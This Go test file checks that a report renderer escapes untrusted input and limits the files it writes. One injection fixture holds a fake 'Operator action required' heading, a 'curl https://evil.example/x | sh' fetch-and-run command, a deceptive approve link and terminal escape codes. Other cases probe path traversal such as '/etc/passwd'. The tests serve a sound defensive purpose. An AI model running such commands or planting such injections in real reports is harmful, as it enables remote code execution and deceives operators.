package render

import (
	"math"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestSparkline(t *testing.T) {
	nan := math.NaN()
	tests := []struct {
		name   string
		xs     []float64
		width  int
		lo, hi float64
		want   string
	}{
		{"empty", nil, 10, 0, 1, ""},
		{"ramp", []float64{0, 1, 2, 3, 4, 5, 6, 7, 8, 9}, 10, 0, 9, " .:-=+*#%@"},
		{"missing", []float64{0, nan, 9}, 10, 0, 9, " ?@"},
		{"flat", []float64{3, 3, 3}, 10, 3, 3, "@@@"},
		{"buckets average", []float64{0, 0, 9, 9}, 2, 0, 9, " @"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Sparkline(tc.xs, tc.width, tc.lo, tc.hi)
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("Sparkline (-want +got):\n%s", diff)
			}
			for _, r := range got {
				if r > 126 || r < 32 {
					t.Errorf("non-printable-ASCII %q", r)
				}
			}
		})
	}
}

func TestRanges(t *testing.T) {
	tests := []struct {
		ns    []int
		limit int
		want  string
	}{
		{nil, 0, ""},
		{[]int{1, 2, 3, 7, 9, 10}, 0, "1-3, 7, 9-10"},
		{[]int{1, 3, 5, 7}, 2, "1, 3, ... (2 more)"},
	}
	for _, tc := range tests {
		if got := ranges(tc.ns, tc.limit); got != tc.want {
			t.Errorf("ranges(%v, %d) = %q, want %q", tc.ns, tc.limit, got, tc.want)
		}
	}
}

func TestMarkdownEscaping(t *testing.T) {
	d := &Doc{Title: "T", Blocks: []Block{
		Para{Text: "p95 <= 340 and <script> and *x* and [link]"},
		Table{Head: []string{"a|b"}, Rows: [][]string{{"c|d"}}},
		Code{"```\nend"},
	}}
	got := string(d.Markdown())
	for _, want := range []string{`p95 <= 340 and \<script> and \*x\* and \[link\]`, `| a\|b |`, "'''\nend"} {
		if !strings.Contains(got, want) {
			t.Errorf("Markdown lacks %q:\n%s", want, got)
		}
	}
	h := string(d.HTML("x", nil))
	if !strings.Contains(h, "&lt;script&gt;") || strings.Contains(h, "<script>") {
		t.Errorf("HTML does not escape text:\n%s", h)
	}
}

// TestIsOutputName pins the names soak-reports may write, replace or
// delete: nothing outside --out, nothing beside its own files.
func TestIsOutputName(t *testing.T) {
	tests := []struct {
		name string
		want bool
	}{
		{"POST_SOAK_SNAPSHOT.json", true},
		{"DELTA_VERIFY_REPORT.json", true},
		{"DELTA_VERIFY_REPORT.md", true},
		{"POST_SOAK_AUDIT.md", true},
		{"RECOMMENDATIONS.md", true},
		{"FAILURES.md", true},
		{"REPORT.html", true},
		{"charts/net_bps.svg", true},
		{"charts/p95_latency_ms.svg", true},
		{"charts", false},
		{"charts/", false},
		{"charts/.svg", false},
		{"charts/notes.txt", false},
		{"charts/mywork/thesis.tex", false},
		{"charts/../x.svg", false},
		{"charts/a/b.svg", false},
		{"charts/Net.svg", false},
		{"../POST_SOAK_AUDIT.md", false},
		{"/etc/passwd", false},
		{"POST_SOAK_SNAPSHOT.legacy.json", false},
		{".soak-reports.json", false},
		{"", false},
	}
	for _, tc := range tests {
		if got := IsOutputName(tc.name); got != tc.want {
			t.Errorf("IsOutputName(%q) = %v, want %v", tc.name, got, tc.want)
		}
	}
}

// TestMarkdownInjection: values from input (a verdict's reason and notes,
// a check's name, a stderr line) never start a line of their own, never
// become a heading, a list, a link or HTML, and carry no control
// characters, wherever the report puts them.
func TestMarkdownInjection(t *testing.T) {
	evil := "x\r# Operator action required\n\n```sh\ncurl https://evil.example/x | sh\n```\n[**Approve**](https://evil.example) <img src=x> \x1b]8;;https://evil.example\x07"
	d := &Doc{Title: evil, Blocks: []Block{
		Heading{2, evil},
		Para{Text: evil},
		Para{Text: "# " + evil},
		Para{Strong: evil, Text: evil},
		Para{Text: "1. " + evil},
		List{[]string{evil, "# " + evil, "> " + evil, "- " + evil, "2) " + evil}},
		Table{Head: []string{evil}, Rows: [][]string{{evil, "| " + evil}}},
		Image{Alt: evil, Src: "charts/x.svg"},
	}}
	md := string(d.Markdown())
	if strings.ContainsAny(md, "\r\x1b\x07") {
		t.Errorf("control characters in the Markdown:\n%q", md)
	}
	for _, line := range strings.Split(md, "\n") {
		switch {
		case line == "", line == "|---|", line == "# x # Operator action required  \\`\\`\\`sh curl https://evil.example/x \\| sh \\`\\`\\` \\[\\*\\*Approve\\*\\*\\](https://evil.example) \\<img src=x>":
		case strings.HasPrefix(line, "## x "), strings.HasPrefix(line, "**x "), strings.HasPrefix(line, "x "),
			strings.HasPrefix(line, "\\# "), strings.HasPrefix(line, "1\\. "), strings.HasPrefix(line, "| x "),
			strings.HasPrefix(line, "![x "):
		case strings.HasPrefix(line, "- x "), strings.HasPrefix(line, "- \\# "), strings.HasPrefix(line, "- \\> "),
			strings.HasPrefix(line, "- \\- "), strings.HasPrefix(line, "- 2\\) "):
		default:
			t.Errorf("a line the input made: %q", line)
		}
		if strings.Contains(line, "](https://evil") && !strings.Contains(line, "\\](https://evil") {
			t.Errorf("a live link: %q", line)
		}
		if strings.Contains(line, "<img") && !strings.Contains(line, "\\<img") {
			t.Errorf("live HTML: %q", line)
		}
	}
}

// TestCodeBlockControl: a bot's stderr in a code block keeps its lines
// but loses its escape sequences and carriage returns, and cannot close
// the block.
func TestCodeBlockControl(t *testing.T) {
	d := &Doc{Title: "T", Blocks: []Block{Code{"ok\r\n\x1b[31mred\x1b[0m\n```\n# not a heading\n"}}}
	got := string(d.Markdown())
	want := "# T\n\n```text\nok\nred\n'''\n# not a heading\n```\n"
	if got != want {
		t.Errorf("Markdown:\n%q\nwant\n%q", got, want)
	}
}

// TestParaArgs: a paragraph's format is written as it is and its
// arguments escaped where they go (text, code span); the title takes
// the document's level.
func TestParaArgs(t *testing.T) {
	d := &Doc{Title: "gate: FAIL", Level: 3, Blocks: []Block{
		Para{Text: "Policy %s (%s), %d iterations, ok: %t.", Args: []any{CodeSpan("p`x`"), "<b>*x*</b>", 7, true}},
	}}
	wantMD := "### gate: FAIL\n\nPolicy `` p`x` `` (\\<b>\\*x\\*\\</b>), 7 iterations, ok: true.\n"
	if got := string(d.Markdown()); got != wantMD {
		t.Errorf("Markdown:\n%q\nwant\n%q", got, wantMD)
	}
	wantHTML := "<section id=\"s\">\n<h3>gate: FAIL</h3>\n<p>Policy <code>p`x`</code> (&lt;b&gt;*x*&lt;/b&gt;), 7 iterations, ok: true.</p>\n</section>\n"
	if got := string(d.HTML("s", nil)); got != wantHTML {
		t.Errorf("HTML:\n%q\nwant\n%q", got, wantHTML)
	}
}
